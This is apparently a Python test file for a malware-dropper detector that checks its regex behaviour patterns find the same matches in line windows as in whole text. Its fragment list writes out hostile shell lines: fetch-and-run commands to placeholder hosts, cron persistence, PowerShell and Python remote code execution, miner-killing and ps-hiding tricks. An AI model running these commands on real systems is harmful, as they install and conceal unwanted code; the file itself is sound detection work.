"""The behaviour patterns are searched only in the lines around their literals (``re`` is
slow when a pattern cannot be found by a literal prefix): for scripts without blank lines
inside a command, that must find what a search of the whole text finds."""

from __future__ import annotations

import re

from hypothesis import given, settings
from hypothesis import strategies as st

from minehunt import rxshape
from minehunt.dropper import behaviours as B
from minehunt.dropper.normalise import layers

FRAGMENTS = [
    "curl -fsSL http://203.0.113.9/x.sh",
    "| sh",
    "|",
    "bash",
    "wget -q -O /tmp/.x http://h/x",
    "chmod +x /tmp/.x",
    "nohup /tmp/.x >/dev/null 2>&1 &",
    "(crontab -l; echo '*/5 * * * * curl -s http://h/a|sh') | crontab -",
    "echo ZWNobyBoaQ== | base64 -d",
    "history -c",
    "pkill -f xmrig",
    "kill -9 $(pgrep kdevtmpfsi)",
    "IEX (New-Object Net.WebClient).DownloadString('http://h/a')",
    "use LWP::Simple;",
    "eval(get('http://h/p'));",
    "ls /proc/*/exe",
    "for p in /proc/[0-9]*; do",
    "kill -9 $p",
    "done",
    "alias ps='ps | grep -v x'",
    "mv /bin/ps /bin/ps.orig",
    "chattr +i /etc/ld.so.preload",
    "echo 1 > /proc/sys/vm/nr_hugepages",
    "systemctl stop aliyun",
    "import urllib.request",
    "exec(urllib.request.urlopen('http://h/x').read())",
    "color: red; /* get( rev fetch */",
    "export function fetch(url: string): Promise<void>;",
]


@settings(max_examples=300, deadline=None)
@given(st.lists(st.sampled_from(FRAGMENTS), min_size=1, max_size=14), st.data())
def test_windows_find_what_the_whole_text_finds(parts: list[str], data: st.DataObject) -> None:
    joins = data.draw(st.lists(st.sampled_from([" ", "\n", "; ", " \\\n"]), min_size=len(parts)))
    text = "".join(p + j for p, j in zip(parts, joins, strict=False))
    for layer in layers(text):
        idx = B._Index(layer)
        for sub in B.STATIC:
            assert sub.pattern is not None
            needs = [n for n in B.NEEDS[sub.key] if n in idx.lowered]
            whole = [(ln.no, m.span()) for ln, m in idx.matches(sub.pattern)]
            near = [(ln.no, m.span()) for ln, m in idx.matches(sub.pattern, needs=needs)]
            assert near == whole, (sub.key, text)


def test_every_match_holds_a_needed_literal() -> None:
    """The windows rest on NEEDS: a pattern matching without any of its literals would be
    missed, so each authored dropper's matches are checked to hold one."""
    from pathlib import Path

    corpus = Path(__file__).resolve().parents[1] / "corpus/dropper"
    for path in sorted(corpus.rglob("*")):
        if not path.is_file():
            continue
        for layer in layers(path.read_text(errors="replace")):
            for text in (layer.text, layer.squeezed):
                for sub in B.STATIC:
                    assert sub.pattern is not None
                    for m in sub.pattern.finditer(text):
                        got = m.group(0).lower()
                        assert any(n in got for n in B.NEEDS[sub.key]), (sub.key, path, got)


def test_the_shape_of_a_pattern_decides_its_window() -> None:
    assert not rxshape.can_consume(re.compile(r"history[ \t]+-c[^\n]*"), "\n")
    assert rxshape.can_consume(re.compile(r"history\s+-c"), "\n")
    assert rxshape.newline_by_space_only(re.compile(r"\|\s*crontab\s+-"))
    assert rxshape.newline_by_space_only(re.compile(r"mv\s+(?:-\S+\s+)*/bin/ps[>\s]"))
    assert not rxshape.newline_by_space_only(re.compile(r"lwp::simple[\s\S]{0,600}eval"))
    assert not rxshape.newline_by_space_only(re.compile(r"curl[^|]*\|\s*sh"))
    assert not rxshape.newline_by_space_only(re.compile(r"(?s)curl.*sh"))
    assert rxshape.newline_by_space_only(re.compile(r"curl.*sh"))
